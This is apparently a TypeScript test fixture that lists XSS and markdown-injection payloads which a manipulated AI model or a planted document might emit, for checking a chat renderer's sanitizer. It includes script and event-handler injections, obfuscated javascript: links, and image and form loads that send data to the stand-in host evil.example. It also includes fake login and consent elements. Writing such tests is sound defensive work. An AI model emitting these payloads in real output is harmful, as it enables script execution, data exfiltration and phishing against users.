// What a model that was talked into it, or a document that was planted, might write: markup that wants to run, to load, to send
// what it knows somewhere, or to look like a part of the page. Each asks `EVIL`, or says so in `window.struck`.

export const EVIL = "https://evil.example";

const STRIKE = "window.struck=1";

/** One reply each. */
export const ATTACKS = [
  // Scripts.
  `<script>${STRIKE}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<svg onload="${STRIKE}"><script>${STRIKE}</script></svg>`,
  `<img src=x onerror="${STRIKE}">`,
  `<body onload=${STRIKE}>`,
  `<iframe srcdoc="<script>parent.struck=1</script>"></iframe>`,
  `<iframe src="javascript:parent.struck=1"></iframe>`,
  `<math><mtext></p><style><img src=x onerror=${STRIKE}></style></mtext></math>`,
  `<details open ontoggle=${STRIKE}>x</details>`,
  `<input autofocus onfocus=${STRIKE}>`,
  `<a href="javascript:${STRIKE}">click</a>`,
  `<template><script>${STRIKE}</script></template>`,
  `</textarea></title></style><script>${STRIKE}</script>`,
  `"><script>${STRIKE}</script>`,
  `<<script>script>${STRIKE}<</script>/script>`,
  `&lt;script&gt;${STRIKE}&lt;/script&gt;`,
  `<x-foo onclick=${STRIKE}>x</x-foo>`,
  // Markdown that wants to run.
  `[click](javascript:${STRIKE})`,
  `[click](JaVaScRiPt:${STRIKE})`,
  `[click](java\tscript:${STRIKE})`,
  `[click](&#106;avascript:${STRIKE})`,
  `[click](data:text/html,<script>opener.struck=1</script>)`,
  `[click](vbscript:${STRIKE})`,
  `[click](blob:${EVIL}/a)`,
  `[click](//evil.example/a)`,
  `[click](/v1/erase)`,
  `[x]: javascript:${STRIKE}\n\n[x]`,
  `<javascript:${STRIKE}>`,
  `[a](https://shop.example" onmouseover="${STRIKE})`,
  `[a"onmouseover="${STRIKE}](https://shop.example)`,
  `**bold<img src=x onerror=${STRIKE}>**`,
  `\`\`\`html\n<script>${STRIKE}</script>\n\`\`\``,
  `\`<script>${STRIKE}</script>\``,
  `1. <script>${STRIKE}</script>\n   - <img src=x onerror=${STRIKE}>`,
  `> <script>${STRIKE}</script>`,
  `| a | <script>${STRIKE}</script> |\n|---|---|\n| <img src=x onerror=${STRIKE}> | b |`,
  // What loads, and sends what it knows with the address.
  `![](${EVIL}/p.png?q=jo@example.org)`,
  `![alt](${EVIL}/p.png "title")`,
  `[![](${EVIL}/p.png)](${EVIL}/l)`,
  `![x][y]\n\n[y]: ${EVIL}/p.png`,
  `<img src="${EVIL}/p.png">`,
  `<img srcset="${EVIL}/p.png 2x">`,
  `<picture><source srcset="${EVIL}/p.png"></picture>`,
  `<video src="${EVIL}/v.mp4" autoplay></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  `<iframe src="${EVIL}/f"></iframe>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="preconnect" href="${EVIL}"><link rel="dns-prefetch" href="${EVIL}">`,
  `<style>@import url(${EVIL}/s.css);*{background:url(${EVIL}/b.png)}</style>`,
  `<p style="background:url(${EVIL}/b.png)">x</p>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/f"><input name=a><button>Send</button></form>`,
  `<svg><image href="${EVIL}/i.png"/><use href="${EVIL}/u.svg#x"/></svg>`,
  // What wants to look like a part of the page.
  `<dialog open>Log in again</dialog>`,
  `<div id="sotto" class="gate">I agree</div><button data-do="er">Erase</button>`,
  `<slot name="x"></slot><sotto-chat site="x"></sotto-chat>`,
  `<h1>Sign in</h1><input type="password">`,
];
